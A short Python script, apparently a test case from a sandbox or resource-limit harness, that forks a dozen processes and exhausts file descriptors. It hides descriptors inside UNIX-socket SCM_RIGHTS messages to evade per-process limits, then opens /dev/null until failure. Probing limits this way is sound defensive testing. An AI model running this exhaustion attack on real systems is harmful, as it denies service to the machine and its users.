"""All descriptors of many processes, and more of them on their way through sockets, where no limit counts them."""

import array
import os
import socket

from attacker import look_around, over

look_around()
for _ in range(12):
    if os.fork() == 0:
        break
left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
left.setblocking(False)
sent = 0
try:
    while True:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [right.fileno()] * 250))])
        sent += 250
except OSError as error:
    print("held: descriptors on their way", sent, "-", error, flush=True)
held = []
try:
    while True:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    print("held: open", len(held), "-", error, flush=True)
over()
